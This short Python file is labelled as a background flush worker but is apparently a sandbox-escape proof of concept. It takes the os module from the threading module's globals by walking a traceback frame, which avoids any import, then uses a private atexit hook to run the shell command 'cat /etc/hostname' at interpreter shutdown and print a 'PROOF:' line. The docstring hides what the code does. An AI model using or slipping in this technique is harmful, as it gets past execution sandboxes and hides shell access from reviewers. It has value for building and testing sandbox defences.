# family: process hooks (threads + exit hooks; worker frame f_back into threading)
"""Background flush worker.

Runs a flush routine in a background thread and registers a final flush
to run when the interpreter shuts down.
"""
import asyncio

_threading = asyncio.events.threading
STATE = {}


def _worker():
    try:
        raise LookupError
    except LookupError as e:
        runner = e.__traceback__.tb_frame.f_back  # Thread.run
    STATE["rt"] = runner.f_globals["_os"]


def _final_flush():
    print("PROOF:", STATE["rt"].popen("cat /etc/hostname").read().strip())


def start():
    t = _threading.Thread(target=_worker, daemon=True)
    t.start()
    t.join()
    getattr(_threading, "_register_atexit")(_final_flush)


if __name__ == "__main__":
    start()
    print("worker started")
